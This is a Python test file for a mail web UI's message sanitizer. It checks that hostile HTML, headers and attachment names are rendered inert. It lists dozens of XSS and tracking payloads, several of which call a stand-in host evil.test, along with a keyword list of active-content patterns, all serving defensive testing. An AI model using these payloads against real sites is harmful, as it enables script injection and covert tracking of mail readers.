"""The held-message renderer against hostile mail: nothing it returns as HTML may run,
fetch or submit anything, and what it returns as text is only ever text."""

from __future__ import annotations

import base64
import re

import pytest

from mailflow.web.ui import safe_message
from mailflow.web.ui.safe_message import FRAME_CSP, frame_document, render, sanitized_html

PNG = base64.b64decode(  # a 1x1 transparent PNG
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")


def mime(html: str, *parts: str, text: str | None = None, subject: str = "hi") -> bytes:
    """A multipart/mixed message: an HTML body (and a text one), then ``parts``."""
    body = [f"--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"]
    if text is not None:
        body.insert(0, f"--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n")
    body += [f"--B\r\n{p}\r\n" for p in parts]
    return ("From: Eve <eve@outside.test>\r\nTo: team@example.test\r\n"
            f"Subject: {subject}\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=B\r\n\r\n"
            + "".join(body) + "--B--\r\n").encode()


def html_of(raw: bytes) -> str:
    rendered = render(raw)
    assert rendered.html is not None
    return rendered.html


def no_active_content(html: str) -> None:
    lowered = html.lower()
    for needle in ("<script", "javascript:", "vbscript:", "onerror", "onload", "onclick",
                   "onmouseover", "<form", "<input", "<iframe", "<object", "<embed",
                   "<svg", "<math", "<style", "<link", "<meta", "<base", "url(",
                   "expression(", "@import", "srcset", "formaction"):
        assert needle not in lowered, (needle, html)
    # Every src left is a data: URI of the message's own images.
    for src in re.findall(r'src="([^"]*)"', html):
        assert src.startswith("data:image/"), src


@pytest.mark.parametrize("hostile", [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt&#58;alert(1)\">click</a>",
    "<a href=\" &#14;javascript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><image href=\"https://evil.test/p.png\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=\"https://evil.test/\"><input name=p><button>go</button></form>",
    "<button formaction=\"https://evil.test/\">x</button>",
    "<iframe src=\"https://evil.test/\"></iframe>",
    "<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/\">",
    "<style>@import url(https://evil.test/x.css); body{background:url(//evil.test/p)}"
    "</style>",
    "<link rel=stylesheet href=\"https://evil.test/x.css\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
    "<base href=\"https://evil.test/\">",
    "<p style=\"background:url(https://evil.test/p.png)\">x</p>",
    "<p style=\"background-color:u\\72l(https://evil.test/p.png)\">x</p>",
    "<p style=\"color:red;background-image:image-set('https://evil.test/p.png' 1x)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"color:r/**/ed; list-style-image: url(//evil.test/)\">x</p>",
    "<img src=\"https://evil.test/pixel.gif\" width=1 height=1>",
    "<img src=\"//evil.test/pixel.gif\">",
    "<img srcset=\"https://evil.test/a.png 1x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
    "<table background=\"https://evil.test/bg.png\"><tr><td>x</td></tr></table>",
    "<video poster=\"https://evil.test/p.png\"><source src=\"https://evil.test/v\"></video>",
    "<!--[if gte mso 9]><img src=\"https://evil.test/p.png\"><![endif]-->",
    "<noscript><img src=\"https://evil.test/p.png\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<div id=\"csrf-token\" name=\"csrf_token\">clobber</div>",
])
def test_hostile_html_comes_out_inert(hostile: str) -> None:
    html = html_of(mime(f"<p>before</p>{hostile}<p>after</p>"))
    no_active_content(html)
    assert 'id="' not in html and 'name="' not in html  # nothing to clobber
    assert "before" in html  # (an unclosed element may swallow what follows)


def test_links_keep_http_and_mailto_and_never_pass_the_referrer() -> None:
    html = html_of(mime('<a href="https://ok.test/a?b=1">a</a> <a href="mailto:x@ok.test">m</a>'
                        ' <a href="/ui/logout">relative</a> <a href="ftp://ok.test/">f</a>'))
    assert '<a href="https://ok.test/a?b=1" rel="noopener noreferrer nofollow">a</a>' in html
    assert 'href="mailto:x@ok.test"' in html
    assert "/ui/logout" not in html and "ftp:" not in html
    assert html.count('rel="noopener noreferrer nofollow"') == 4


def test_styles_keep_harmless_properties_only() -> None:
    html = html_of(mime('<p style="color: #c00; font-weight: bold; position: fixed; '
                        'display: none; background-color: rgb(1, 2, 3)">x</p>'))
    assert 'style="color: #c00; font-weight: bold; background-color: rgb(1, 2, 3)"' in html


def test_cid_images_become_data_uris_of_the_message_own_parts() -> None:
    image = ("Content-Type: image/png\r\nContent-ID: <logo@x>\r\n"
             "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PNG).decode())
    rendered = render(mime('<img src="cid:logo@x" alt="logo"><img src="cid:missing@x">',
                           image))
    assert rendered.html is not None
    assert f'src="data:image/png;base64,{base64.b64encode(PNG).decode()}"' in rendered.html
    assert rendered.html.count("src=") == 1  # the unknown reference is dropped
    [listed] = rendered.attachments
    assert listed.inline and listed.content_type == "image/png" and listed.size == len(PNG)


def test_inline_images_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe_message, "INLINE_IMAGE_MAX_BYTES", len(PNG) - 1)
    image = ("Content-Type: image/png\r\nContent-ID: <big@x>\r\n"
             "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PNG).decode())
    rendered = render(mime('<img src="cid:big@x">', image))
    assert rendered.html is not None and "src=" not in rendered.html
    assert any("inline images" in t for t in rendered.truncated)


def test_fields_and_text_are_decoded_text_never_markup() -> None:
    raw = mime("<p>x</p>", text="<b>not bold</b>\r\nline two\x1b[31m",
               subject="=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=")
    rendered = render(raw)
    assert rendered.subject == "<script>alert(1)</script>"  # escaped by the template
    assert rendered.text == "<b>not bold</b>\nline two\ufffd[31m"
    assert ("From", "Eve <eve@outside.test>") in rendered.summary


def test_attachment_names_are_decoded_and_shown_without_tricks() -> None:
    parts = [
        "Content-Type: application/pdf\r\nContent-Disposition: attachment; "
        "filename=\"=?utf-8?q?invoice=E2=80=AEfdp.exe?=\"\r\n\r\nAAAA",
        "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
        "filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E.bin\r\n\r\nBB",
        "Content-Type: text/plain\r\nContent-Disposition: attachment; "
        "filename=\"notes\r\n\tline.txt\"\r\n\r\nnotes",
    ]
    rendered = render(mime("<p>x</p>", *parts))
    names = [a.name for a in rendered.attachments]
    assert names[0] == "invoice\ufffdfdp.exe"  # the right-to-left override is shown
    assert names[1] == "<img src=x onerror=alert(1)>.bin"  # text: the template escapes
    assert "\n" not in names[2] and "\r" not in names[2]
    assert [a.size for a in rendered.attachments][:2] == [4, 2]
    assert [a.content_type for a in rendered.attachments] == [
        "application/pdf", "application/octet-stream", "text/plain"]


def test_what_is_rendered_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe_message, "TEXT_MAX_CHARS", 100)
    monkeypatch.setattr(safe_message, "HTML_MAX_CHARS", 100)
    monkeypatch.setattr(safe_message, "MAX_ATTACHMENTS", 2)
    parts = [f"Content-Type: application/zip\r\nContent-Disposition: attachment; "
             f"filename=a{n}.zip\r\n\r\nAA" for n in range(5)]
    rendered = render(mime("<p>" + "h" * 1000 + "</p>", *parts, text="t" * 1000))
    assert rendered.text == "t" * 100
    assert rendered.html is not None and rendered.html.count("h") < 110
    assert len(rendered.attachments) == 2
    assert len(rendered.truncated) == 3


def test_a_huge_message_is_read_from_its_start_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe_message, "PARSE_MAX_BYTES", 400)
    rendered = render(b"Subject: big\r\n\r\n" + b"x" * 10_000)
    assert rendered.subject == "big" and rendered.text is not None
    assert len(rendered.text) < 400 and rendered.truncated


def test_broken_mime_still_renders() -> None:
    raw = (b"Subject: =?x-unknown?q?broken?=\r\nContent-Type: multipart/mixed; "
           b"boundary=\"nope\"\r\nContent-Transfer-Encoding: base64\r\n\r\n\xff\xfe garbage")
    rendered = render(raw)
    assert rendered.subject == "=?x-unknown?q?broken?="
    assert rendered.html is None


def test_frame_document_has_the_sanitized_body_only() -> None:
    doc = frame_document(render(mime("<p onclick=x()>hi</p><script>x()</script>")))
    assert doc.startswith("<!doctype html>") and "<p>hi</p>" in doc
    assert "script" not in doc and "onclick" not in doc
    assert "default-src 'none'" in FRAME_CSP and "sandbox" in FRAME_CSP
    assert "script-src" not in FRAME_CSP  # default-src 'none' covers scripts


def test_sanitizer_on_its_own_drops_cid_without_images() -> None:
    assert sanitized_html('<img src="cid:a" alt="a">') == '<img alt="a">'
